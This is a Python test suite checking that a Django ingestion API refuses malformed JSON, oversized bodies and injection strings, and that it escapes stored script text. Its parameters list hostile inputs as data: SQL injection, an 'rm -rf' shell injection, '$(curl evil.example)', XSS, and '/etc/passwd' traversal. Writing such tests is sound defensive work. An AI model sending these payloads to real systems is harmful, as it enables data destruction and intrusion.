"""Hostile and broken bodies on the ingestion routes: each is refused in the error shape with a
4xx, and nothing is stored but the inbox record of the refusal. Injection strings that are valid
text are stored verbatim and shown escaped, never run."""

import json

import pytest
from django.test import Client, override_settings

from apps.deployments.models import Deployment
from apps.ingest.models import Delivery
from tests.assertions import assert_rejected
from tests.factories import ConnectionFactory, StaffFactory, token_for

pytestmark = pytest.mark.django_db

SHA = "015e3d3b480e417aede5a1293bd61de9b0fd051d"
DEPLOYMENT = {
    "repo_url": "https://github.com/acme/api",
    "commit_sha": SHA,
    "start_time": "2024-03-01T12:00:00+00:00",
    "end_time": "2024-03-01T12:10:00+00:00",
}


@pytest.fixture
def fleet():
    connection = ConnectionFactory()
    return connection, token_for(connection)


def post(fleet, body, *, route="deployments", content_type="application/json", query=""):
    connection, token = fleet
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return Client().post(
        f"/api/v1/connections/{connection.pk}/{route}{query}",
        data=data,
        content_type=content_type,
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )


def nested(depth):
    return ('{"a": ' * depth + "1" + "}" * depth).encode()


@pytest.mark.parametrize(
    ("body", "code"),
    [
        pytest.param(nested(65), "malformed_json", id="nested 65 deep"),
        pytest.param(nested(100_000), "malformed_json", id="nested 100,000 deep"),
        pytest.param(b"[" * 50_000, "malformed_json", id="unterminated arrays"),
        pytest.param(b'{"repo_url": "\xff\xfe"}', "malformed_json", id="invalid UTF-8"),
        pytest.param(b'{"repo_url": "\xed\xa0\x80"}', "malformed_json", id="UTF-8 surrogate"),
        pytest.param(b'{"id": "a", "id": "b"}', "malformed_json", id="duplicated key"),
        pytest.param(b'{"id": 1e400}', "malformed_json", id="number out of range"),
        pytest.param(b'{"id": ' + b"9" * 5000 + b"}", "malformed_json", id="5000-digit number"),
        pytest.param(b'{"id": NaN}', "malformed_json", id="NaN"),
        pytest.param(b'{"id": "a\\u0000b"}', "malformed_json", id="NUL in a string"),
        pytest.param(b'{"a\\u0000": 1}', "malformed_json", id="NUL in a key"),
        pytest.param(b"<deployment/>", "malformed_json", id="XML"),
        pytest.param(b"", "malformed_json", id="empty"),
        pytest.param(b"null", "malformed_json", id="null"),
    ],
)
def test_broken_json_is_refused(fleet, body, code):
    assert_rejected(post(fleet, body), status=400, code=code, body_kept=bool(body))


@override_settings(DORAHUB_MAX_BODY_BYTES=10_000)
def test_a_body_over_the_limit_is_413_and_never_parsed(fleet):
    huge = DEPLOYMENT | {"commit_msg": "x" * 20_000}
    assert_rejected(post(fleet, huge), status=413, code="payload_too_large", body_kept=False)
    assert Delivery.objects.get().body_size == 0  # the body was not even read


def test_too_many_commits_under_the_byte_limit_are_refused(fleet):
    commits = [{"repo_url": "r", "commit_sha": f"{i:040x}"} for i in range(1001)]
    body = {"start_time": DEPLOYMENT["start_time"], "deploymentCommits": commits}
    assert_rejected(post(fleet, body), "deploymentCommits", code="validation_error")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("start_time", "2024-03-01T12:00:00"),  # naive
        ("start_time", "0001-01-01T00:00:00Z"),  # Go's zero time
        ("start_time", "9999-12-31T23:59:59-14:00"),  # past the last representable instant
        ("end_time", "3000-01-01T00:00:00Z"),
        ("start_time", 1709294400),
        ("environment", "PRODUCTION'; --"),
        ("is_rollback", "maybe"),
        ("resolves", ["x" * 201]),
    ],
)
def test_values_out_of_range_are_refused_naming_the_field(fleet, field, value):
    named = f"{field}[0]" if isinstance(value, list) else field
    assert_rejected(post(fleet, DEPLOYMENT | {field: value}), named, code="validation_error")


@pytest.mark.parametrize(
    "sha",
    [
        "'; DROP TABLE deployments_deployment; --",
        "abc' OR '1'='1",
        "abc;rm$IFS-rf$IFS/",
        "$(curl evil.example)",
        "`id`",
        "<script>alert(1)</script>",
        "abc\ndef",
        "../../../etc/passwd%00",
        "{{7*7}}",
        "a" * 129,
    ],
)
def test_sha_values_with_injection_strings_are_refused(fleet, sha):
    assert_rejected(
        post(fleet, DEPLOYMENT | {"commit_sha": sha}), "commit_sha", code="validation_error"
    )


@pytest.mark.parametrize(
    ("route", "body", "field"),
    [
        ("changes", {"identifier": "';--", "timestamp": 1709294400}, "identifier"),
        ("changes", {"identifier": SHA, "timestamp": 10**20}, "timestamp"),
        ("changes", {"identifier": SHA, "timestamp": "9" * 5000}, "timestamp"),
        ("changes", {"identifier": SHA, "timestamp": "²"}, "timestamp"),
        ("incidents", {"identifier": "I", "timestampCreated": -1}, "timestampCreated"),
        ("deployments", {"identifier": "v1", "timestamp": 1709294400, "changes": ["$(x)"]}, None),
    ],
)
def test_pulse_native_routes_refuse_hostile_values(fleet, route, body, field):
    assert_rejected(post(fleet, body, route=route), field, code="validation_error")


def test_allstacks_refuses_an_out_of_range_duration_and_a_forged_sha(fleet):
    connection, token = fleet
    job = {
        "job_id": "deploy",
        "commit_sha": "g" * 40,
        "service_id": connection.pk,
        "job_start_time": 1709294400,
        "job_duration": 2**31,
        "status": "Succeeded",
        "repo_name": "acme/api",
    }
    response = Client().post(
        "/webhook/company/acme/cicd_job",
        data=json.dumps(job),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert_rejected(response, "job_duration", code="validation_error")
    assert "commit_sha" in response.json()["error"]["fields"]


@pytest.mark.parametrize(
    ("query", "field"),
    [("?system=%00", "query.system"), ("?x%00=1", "query.x\\u0000")],
)
def test_a_nul_in_the_query_string_is_refused_and_still_recorded(fleet, query, field):
    body = {"identifier": SHA, "timestamp": 1709294400}
    assert_rejected(
        post(fleet, body, route="changes", query=query), field, 400, code="validation_error"
    )
    assert "\ufffd" in json.dumps(Delivery.objects.get().query, ensure_ascii=False)


def test_a_nul_in_a_connection_name_is_refused(fleet):
    response = Client().post(
        "/api/rest/plugins/webhook/connections/by-name/a%00b/deployments",
        data=json.dumps(DEPLOYMENT),
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {fleet[1]}",
    )
    assert_rejected(response, "path.connection_name", code="validation_error")


# --- content types ---------------------------------------------------------------------------


def test_a_multipart_form_is_refused_with_415(fleet):
    connection, token = fleet
    response = Client().post(
        f"/api/v1/connections/{connection.pk}/deployments",
        data={"payload": json.dumps(DEPLOYMENT)},  # the test client encodes a multipart form
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert_rejected(response, None, 415, code="unsupported_media_type")
    assert "multipart" in response.json()["error"]["message"]


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json",
        "application/json; charset=utf-8",
        "application/x-www-form-urlencoded",  # what `curl -d` says: DevLake's own samples
        "text/plain",
        "",
    ],
)
def test_json_is_read_whatever_else_the_content_type_says(fleet, content_type):
    response = post(fleet, DEPLOYMENT, content_type=content_type)
    assert response.status_code == 201, response.content
    assert Deployment.objects.count() == 1


# --- valid text that looks like an attack ---------------------------------------------------


def test_injection_text_in_free_text_fields_is_stored_verbatim_and_shown_escaped(fleet):
    connection, _ = fleet
    script = "<script>alert('x')</script>"
    body = DEPLOYMENT | {"name": script, "ref_name": "'; DROP TABLE x; --"}
    assert post(fleet, body).status_code == 201

    deployment = Deployment.objects.get()
    assert (deployment.name, deployment.ref_name) == (script, "'; DROP TABLE x; --")
    client = Client()
    client.force_login(StaffFactory())
    slug = connection.project.slug
    # Its day, before the default 90 days.
    listed = f"/projects/{slug}/deployments/?since=2024-02-01&until=2024-06-01"
    for url in (listed, f"/projects/{slug}/deployments/{deployment.pk}/"):
        page = client.get(url).content.decode()
        assert script not in page
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
